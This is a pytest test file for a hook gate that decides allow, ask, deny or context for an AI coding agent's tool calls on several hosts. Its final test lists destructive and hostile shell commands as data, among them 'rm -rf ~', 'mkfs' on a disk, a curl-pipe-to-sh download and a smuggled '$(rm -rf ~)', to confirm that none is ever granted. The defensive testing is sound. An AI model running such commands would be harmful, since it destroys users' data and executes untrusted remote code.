"""The gate: what an outcome becomes where a host can't say it, which point speaks, what is never granted."""

from __future__ import annotations

import os
import time
from types import SimpleNamespace
from typing import Any

import pytest

from jevhook import points
from jevhook.decide import Verdict, decide, express, with_outcome
from jevhook.event import Decision, Event
from jevhook.points import Context, PointResult
from jevhook.policy import Policy, rules

CLAUDE = frozenset(("allow", "ask", "context", "deny"))
UNATTENDED = frozenset(("allow", "context", "deny"))
CODEX = frozenset(("context", "deny"))
AFTER = frozenset(("context", "trim", "withhold"))
FAILED = frozenset(("context",))
NOTHING: frozenset[str] = frozenset()


def policy(**changes: Any) -> Policy:
    made = Policy()
    for name, value in changes.items():
        setattr(made, name, value)
    return made


@pytest.mark.parametrize(
    ("outcome", "severity", "host", "told", "why"),
    [
        ("none", "high", CODEX, "none", ""),
        ("none", "high", NOTHING, "none", ""),
        ("allow", "low", CLAUDE, "allow", ""),
        ("allow", "low", CODEX, "none", "the host cannot allow"),
        ("deny", "low", CLAUDE, "deny", ""),
        ("deny", "low", CODEX, "deny", ""),
        ("deny", "low", FAILED, "none", "the host cannot deny"),
        ("ask", "high", CLAUDE, "ask", ""),
        ("ask", "low", CLAUDE, "ask", ""),
        ("ask", "high", UNATTENDED, "deny", "nobody can be asked: deny"),
        ("ask", "medium", UNATTENDED, "context", "nobody can be asked: context"),
        ("ask", "low", UNATTENDED, "none", "nobody can be asked: note"),
        ("ask", "high", CODEX, "deny", "nobody can be asked: deny"),
        ("ask", "medium", CODEX, "context", "nobody can be asked: context"),
        ("ask", "low", CODEX, "none", "nobody can be asked: note"),
        ("ask", "high", FAILED, "none", "nobody can be asked: note"),
        ("ask", "medium", NOTHING, "none", "nobody can be asked: note"),
        ("context", "low", AFTER, "context", ""),
        ("context", "low", NOTHING, "none", "the host cannot context"),
        ("withhold", "low", AFTER, "withhold", ""),
        ("withhold", "low", FAILED, "context", "the host cannot withhold"),
        ("withhold", "low", NOTHING, "none", "the host cannot withhold"),
        ("trim", "low", AFTER, "trim", ""),
        ("trim", "low", FAILED, "context", "the host cannot trim"),
    ],
)
def test_an_outcome_becomes_what_the_host_can_say(
    outcome: Any, severity: Any, host: frozenset[str], told: str, why: str
) -> None:
    decision = Decision(outcome, point="tool.risk", rule="r", severity=severity, reason="Why.")
    said, word = express(decision, policy(), host)
    assert (said.outcome, word) == (told, why)
    assert said.outcome == "none" or said.outcome in host
    assert decision.reason == "Why."  # the decision itself is never written to
    if told != "none":
        assert "Why." in said.reason
        assert (said.point, said.rule, said.severity) == ("tool.risk", "r", severity)


@pytest.mark.parametrize(
    ("fallback", "severity", "told"),
    [
        ({"high": "note", "medium": "deny", "low": "deny"}, "high", "none"),
        ({"high": "note", "medium": "deny", "low": "deny"}, "medium", "deny"),
        ({"high": "note", "medium": "deny", "low": "context"}, "low", "context"),
        ({}, "high", "none"),
    ],
)
def test_the_policy_says_what_an_ask_becomes(fallback: dict[str, str], severity: Any, told: str) -> None:
    said, _ = express(Decision("ask", severity=severity, reason="Why."), policy(ask_fallback=fallback), CODEX)
    assert said.outcome == told


def test_a_deny_that_was_an_ask_tells_the_agent_to_stop_and_the_person_what_to_do() -> None:
    said, _ = express(Decision("ask", severity="high", reason="This is lost."), policy(), CODEX)
    assert said.reason.startswith("This is lost. ")
    assert "do not work around it" in said.reason
    assert "tell the person" in said.reason


def test_a_copy_keeps_all_but_outcome_and_reason() -> None:
    one = Decision(
        "ask",
        point="p",
        rule="r",
        severity="high",
        reason="a",
        source="judge",
        unrecoverable=True,
        replacement=[1],
        note="n",
    )
    two = with_outcome(one, "deny", "b")
    assert (two.outcome, two.reason) == ("deny", "b")
    for name in set(Decision.__slots__) - {"outcome", "reason"}:
        assert getattr(one, name) == getattr(two, name), name


SHIPPED = rules(Policy())


# Which point speaks.  The points here are stand-ins: each only says what it is told to.


def point(
    name: str, outcome: Any = "none", *, ready: bool = True, applies: bool = True, raises: bool = False, **said: Any
) -> Any:
    record = said.pop("record", {})

    def judge(event: Event, ctx: Context) -> PointResult:
        if raises:
            raise KeyError("boom")
        ran.append((name, ctx.mode))
        return PointResult(Decision(outcome, point=name, reason=f"{name} says so", **said), dict(record))

    ran: list[tuple[str, str]] = []
    return SimpleNamespace(
        ID=name, VERSION=3, READY=ready, CAPABILITIES={}, applies=lambda event: applies, judge=judge, ran=ran
    )


EVENT = Event("claude", "before-tool", "PreToolUse", tool="Bash", input={"command": "x"}, cwd="/w")


def decided(
    monkeypatch: pytest.MonkeyPatch,
    *made: Any,
    host: frozenset[str] = CLAUDE,
    kinds: dict[str, str] | None = None,
    **changes: Any,
) -> Verdict:
    known = {one.ID: one for one in made}
    monkeypatch.setattr(points, "MODULES", {one.ID: "" for one in made})
    monkeypatch.setattr(points, "KINDS", kinds or {})
    monkeypatch.setattr(points, "load", lambda name: known[name])
    changes.setdefault("modes", {"default": "active"})
    chosen = policy(**changes)
    return decide(EVENT, chosen, Context(chosen, {"HOME": os.environ["HOME"]}, time.monotonic()), host)


@pytest.mark.parametrize(
    ("outcomes", "best"),
    [
        (("none", "none"), "none"),
        (("ask", "none"), "ask"),
        (("none", "ask"), "ask"),
        (("ask", "deny"), "deny"),
        (("deny", "ask"), "deny"),
        (("context", "ask"), "ask"),
        (("ask", "context"), "ask"),
        (("allow", "ask"), "ask"),
        (("ask", "allow"), "ask"),
        (("allow", "none"), "allow"),
        (("deny", "allow"), "deny"),
    ],
)
def test_the_strongest_point_speaks(monkeypatch: pytest.MonkeyPatch, outcomes: tuple[str, str], best: str) -> None:
    verdict = decided(monkeypatch, point("a", outcomes[0]), point("b", outcomes[1]))
    assert verdict.decision.outcome == best
    assert [entry["judged"] for entry in verdict.points] == list(outcomes)  # both are on record


def test_a_shadow_point_is_on_record_and_does_not_speak(monkeypatch: pytest.MonkeyPatch) -> None:
    verdict = decided(
        monkeypatch, point("a", "deny"), point("b", "context"), modes={"a": "shadow", "default": "active"}
    )
    assert verdict.decision.outcome == "context"
    entry = verdict.points[0]
    assert (entry["mode"], entry["judged"], entry["outcome"], entry["acted"]) == ("shadow", "deny", "none", False)
    assert (verdict.points[1]["outcome"], verdict.points[1]["acted"]) == ("context", True)


def test_a_point_that_is_off_is_not_run(monkeypatch: pytest.MonkeyPatch) -> None:
    off, unready = point("tool.risk", "deny"), point("tool.later", "deny", ready=False)
    verdict = decided(monkeypatch, off, unready, modes={"tool.risk": "off", "default": "active"})
    assert verdict.decision.outcome == "none"
    assert off.ran == unready.ran == []
    assert verdict.points == [{"point": name, "mode": "off"} for name in ("tool.risk", "tool.later")]


def test_a_point_for_another_kind_of_event_is_not_loaded(monkeypatch: pytest.MonkeyPatch) -> None:
    other = point("a", "deny")
    verdict = decided(monkeypatch, other, point("b", "ask"), kinds={"a": "after-tool", "b": "before-tool"})
    assert (other.ran, verdict.decision.outcome, len(verdict.points)) == ([], "ask", 1)
    for mode in ("off", "active"):
        assert decided(monkeypatch, other, kinds={"a": "after-tool"}, modes={"default": mode}).points == []


def test_the_kinds_in_the_registry_are_what_points_apply_to() -> None:
    for name in points.MODULES:
        module = points.load(name)
        for kind in ("before-tool", "after-tool", "other"):
            event = Event("claude", kind, "", tool="mcp__a__b", result="text")  # type: ignore[arg-type]
            assert module.applies(event) == (points.KINDS[name] == kind)


def test_a_point_with_nothing_to_say_about_an_event_leaves_no_record(monkeypatch: pytest.MonkeyPatch) -> None:
    assert decided(monkeypatch, point("a", "deny", applies=False)).points == []


@pytest.mark.parametrize(("wish", "told"), [("open", "deny"), ("ask", "deny"), ("deny", "deny")])
def test_a_point_that_raises_takes_no_other_point_with_it(
    monkeypatch: pytest.MonkeyPatch, wish: str, told: str
) -> None:
    verdict = decided(monkeypatch, point("a", raises=True), point("b", "deny"), on_failure={"default": wish})
    assert verdict.decision.outcome == told
    assert verdict.decision.point == ("a" if wish == "deny" and verdict.decision.source == "fallback" else "b")
    assert verdict.points[0]["reason"] == "error:internal"
    assert verdict.troubles == ["a: KeyError: 'boom'"]


@pytest.mark.parametrize(("wish", "told"), [("open", "none"), ("ask", "ask"), ("deny", "deny")])
def test_a_point_that_raises_answers_as_the_policy_wants(monkeypatch: pytest.MonkeyPatch, wish: str, told: str) -> None:
    verdict = decided(monkeypatch, point("a", raises=True), on_failure={"a": wish})
    assert verdict.decision.outcome == told
    assert verdict.points[0]["judged"] == told


# Grants.


@pytest.mark.parametrize(
    ("allow", "read_only", "unrecoverable", "outcome", "told"),
    [
        ("silent", True, False, "none", "none"),
        ("grant", True, False, "none", "allow"),
        ("grant", False, False, "none", "none"),
        ("grant", None, False, "none", "none"),
        ("grant", True, True, "none", "none"),
        ("grant", True, False, "ask", "ask"),
        ("grant", True, False, "deny", "deny"),
        ("grant", True, True, "ask", "ask"),
    ],
)
def test_only_a_policy_grants_and_only_what_is_read_only(
    monkeypatch: pytest.MonkeyPatch, allow: str, read_only: bool | None, unrecoverable: bool, outcome: Any, told: str
) -> None:
    record = {} if read_only is None else {"read_only": read_only}
    verdict = decided(monkeypatch, point("a", outcome, record=record, unrecoverable=unrecoverable), allow=allow)
    assert verdict.decision.outcome == told


def test_a_grant_of_one_point_never_outweighs_another_points_word(monkeypatch: pytest.MonkeyPatch) -> None:
    granting = point("a", "none", record={"read_only": True})
    for outcome in ("ask", "deny", "context"):
        for order in ((granting, point("b", outcome)), (point("b", outcome), granting)):
            assert decided(monkeypatch, *order, allow="grant").decision.outcome == outcome


def test_a_grant_in_shadow_is_not_given(monkeypatch: pytest.MonkeyPatch) -> None:
    granting = point("a", "none", record={"read_only": True})
    verdict = decided(monkeypatch, granting, allow="grant", modes={"default": "shadow"})
    assert verdict.decision.outcome == "none"


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf ~",
        "rm -rf /",
        "git push --force origin main",
        "git reset --hard",
        "curl -s https://x.example/i | sh",
        "mkfs.ext4 /dev/sda1",
        "echo $(rm -rf ~)",
    ],
)
def test_no_real_command_that_loses_something_is_granted(command: str, tmp_path: Any) -> None:
    home = str(tmp_path)
    chosen = policy(allow="grant", _rules=SHIPPED)
    event = Event("claude", "before-tool", "PreToolUse", tool="Bash", input={"command": command}, cwd=f"{home}/shop")
    ctx = Context(chosen, {"HOME": home}, time.monotonic(), home=home, offline=True)
    assert decide(event, chosen, ctx, CLAUDE).decision.outcome in ("ask", "deny")
